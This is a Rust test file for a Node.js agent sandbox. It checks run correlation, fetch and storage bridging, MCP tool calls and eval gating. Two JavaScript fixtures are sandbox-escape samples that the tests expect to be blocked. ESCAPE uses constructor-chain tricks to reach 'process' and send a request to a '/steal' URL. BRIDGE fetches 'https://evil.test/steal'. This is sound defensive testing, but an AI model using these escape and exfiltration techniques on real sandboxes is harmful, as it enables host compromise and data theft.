//! `ProcessLauncher` against a real runtime. Each test returns early when
//! `node` is not on PATH.

use std::time::Duration;

use agentpack_core::config::{McpConfig, SandboxConfig};
use agentpack_core::{Manifest, McpServerEntry, Package, UiVariant};
use agentpack_sandbox::{ProcessLauncher, SandboxError, SandboxSession, SessionOptions, SessionState};
use serde_json::{json, Value};
use wiremock::matchers::{body_partial_json, method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

fn node() -> Option<ProcessLauncher> {
    let found = std::process::Command::new("node")
        .arg("--version")
        .output()
        .map(|out| out.status.success())
        .unwrap_or(false);
    if !found {
        eprintln!("node not found on PATH, skipping");
        return None;
    }
    Some(ProcessLauncher::new("node"))
}

fn options() -> SessionOptions {
    SessionOptions {
        sandbox: SandboxConfig {
            ready_timeout: Duration::from_secs(10),
            run_timeout: Duration::from_secs(10),
            ..SandboxConfig::default()
        },
        mcp: McpConfig::default(),
    }
}

async fn start(
    launcher: &ProcessLauncher,
    manifest: &Manifest,
    code: &str,
    memory: Option<Value>,
) -> SandboxSession {
    let artifact = Package::create(manifest, code, memory.as_ref(), None, UiVariant::None).unwrap();
    SandboxSession::load_with(&artifact, launcher, options())
        .await
        .unwrap()
}

fn remote_error(err: SandboxError) -> String {
    match err {
        SandboxError::Remote(message) => message,
        other => panic!("expected agent error, got {other:?}"),
    }
}

const DELAYED_ECHO: &str = r#"
class Agent {
  run(input) {
    return new Promise((resolve) => setTimeout(() => resolve(input.tag), input.delay));
  }
}
"#;

#[tokio::test]
async fn test_node_context_signals_ready_and_correlates_runs() {
    let Some(launcher) = node() else { return };
    let session = start(&launcher, &Manifest::new("delay"), DELAYED_ECHO, None).await;

    session.wait_ready().await.unwrap();
    assert_eq!(session.state(), SessionState::Ready);

    let (slow, fast) = tokio::join!(
        session.run(json!({"tag": "slow", "delay": 300})),
        session.run(json!({"tag": "fast", "delay": 10})),
    );
    assert_eq!(slow.unwrap(), json!("slow"));
    assert_eq!(fast.unwrap(), json!("fast"));

    session.close().await;
    assert_eq!(session.state(), SessionState::Closed);
}

const ESCAPE: &str = r#"
class Agent {
  constructor(api) { this.api = api; }
  async run(url) {
    const attempts = {
      fetch: () => fetch.constructor.constructor('return process')(),
      timer: () => setTimeout.constructor.constructor('return process')(),
      bridge: () => this.api.storage.get.constructor.constructor('return process')(),
      global: () => this.constructor.constructor('return process')(),
      sandbox: () => globalThis.constructor.constructor('return process')(),
    };
    const out = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        const proc = attempt();
        proc.mainModule.require('http').get(url);
        out[name] = 'leaked';
      } catch (err) {
        out[name] = 'blocked';
      }
    }
    out.require = typeof require;
    out.process = typeof process;
    await new Promise((resolve) => setTimeout(resolve, 200));
    return out;
  }
}
"#;

#[tokio::test]
async fn test_node_context_cannot_reach_host_realm() {
    let Some(launcher) = node() else { return };
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_string("leaked"))
        .mount(&server)
        .await;

    let locked = Manifest::new("esc");
    let mut codegen = Manifest::new("esc-codegen");
    codegen.permissions.code = true;

    for manifest in [locked, codegen] {
        let session = start(&launcher, &manifest, ESCAPE, None).await;
        let out = session.run(json!(format!("{}/steal", server.uri()))).await.unwrap();
        for name in ["fetch", "timer", "bridge", "global", "sandbox"] {
            assert_eq!(out[name], "blocked", "{}: {} escaped", manifest.id, name);
        }
        assert_eq!(out["require"], "undefined");
        assert_eq!(out["process"], "undefined");
        session.close().await;
    }
    assert!(server.received_requests().await.unwrap().is_empty());
}

const BRIDGE: &str = r#"
class Agent {
  constructor(api) { this.api = api; }
  async run(input) {
    const count = await this.api.storage.get('count');
    await this.api.storage.set('count', count + 1);
    const res = await fetch(input.url);
    let denied = null;
    try {
      await fetch('https://evil.test/steal');
    } catch (err) {
      denied = err.message;
    }
    console.log('agent log line', { count });
    return { count, status: res.status, ok: res.ok, body: await res.text(), denied };
  }
}
"#;

#[tokio::test]
async fn test_node_context_bridges_fetch_and_storage() {
    let Some(launcher) = node() else { return };
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/data"))
        .respond_with(ResponseTemplate::new(200).set_body_string("payload"))
        .expect(1)
        .mount(&server)
        .await;

    let mut manifest = Manifest::new("bridge");
    manifest.permissions.network = vec!["127.0.0.1".to_string()];
    manifest.permissions.storage = true;
    let session = start(&launcher, &manifest, BRIDGE, Some(json!({"count": 1}))).await;

    let out = session
        .run(json!({"url": format!("{}/data", server.uri())}))
        .await
        .unwrap();
    assert_eq!(out["count"], 1);
    assert_eq!(out["status"], 200);
    assert_eq!(out["ok"], true);
    assert_eq!(out["body"], "payload");
    assert!(out["denied"].as_str().unwrap().contains("permission denied"));
    assert_eq!(session.storage().get("count"), Some(&json!(2)));
    session.close().await;
}

const MCP_AGENT: &str = r#"
class Agent {
  async run() {
    const tools = await agentpack.mcp.listTools();
    const sum = await agentpack.mcp.callTool('add', { a: 1, b: 2 });
    return { tools: tools.map((t) => t.server + '/' + t.tool.name), sum: sum.content[0].text };
  }
}
"#;

#[tokio::test]
async fn test_node_context_bridges_mcp() {
    let Some(launcher) = node() else { return };
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(body_partial_json(json!({"method": "initialize"})))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "jsonrpc": "2.0", "id": 1,
            "result": {"serverInfo": {"name": "calc", "version": "1"}}
        })))
        .expect(1)
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(body_partial_json(json!({"method": "tools/list"})))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "jsonrpc": "2.0", "id": 2,
            "result": {"tools": [{"name": "add"}]}
        })))
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(body_partial_json(json!({"method": "tools/call", "params": {"name": "add"}})))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "jsonrpc": "2.0", "id": 3,
            "result": {"content": [{"type": "text", "text": "3"}]}
        })))
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(202))
        .mount(&server)
        .await;

    let mut manifest = Manifest::new("mcp");
    manifest.mcp.servers = vec![McpServerEntry {
        name: "calc".to_string(),
        url: server.uri(),
        token: None,
    }];
    let session = start(&launcher, &manifest, MCP_AGENT, None).await;

    let out = session.run(Value::Null).await.unwrap();
    assert_eq!(out, json!({"tools": ["calc/add"], "sum": "3"}));
    session.close().await;
}

#[tokio::test]
async fn test_node_context_gates_code_generation() {
    let Some(launcher) = node() else { return };
    let code = "class Agent { run() { return eval('6 * 7'); } }";

    let session = start(&launcher, &Manifest::new("no-eval"), code, None).await;
    let message = remote_error(session.run(Value::Null).await.unwrap_err());
    assert!(message.contains("Code generation from strings disallowed"), "{message}");
    session.close().await;

    let mut manifest = Manifest::new("eval");
    manifest.permissions.code = true;
    let session = start(&launcher, &manifest, code, None).await;
    assert_eq!(session.run(Value::Null).await.unwrap(), json!(42));
    session.close().await;
}

#[tokio::test]
async fn test_node_context_reports_load_failures_per_run() {
    let Some(launcher) = node() else { return };

    let session = start(&launcher, &Manifest::new("no-class"), "const answer = 42;", None).await;
    session.wait_ready().await.unwrap();
    let message = remote_error(session.run(Value::Null).await.unwrap_err());
    assert_eq!(message, "agent code does not define class Agent");
    assert_eq!(session.state(), SessionState::Ready);
    session.close().await;

    let session = start(&launcher, &Manifest::new("broken"), "class Agent {", None).await;
    let message = remote_error(session.run(Value::Null).await.unwrap_err());
    assert!(message.starts_with("agent failed to load"), "{message}");
    session.close().await;
}
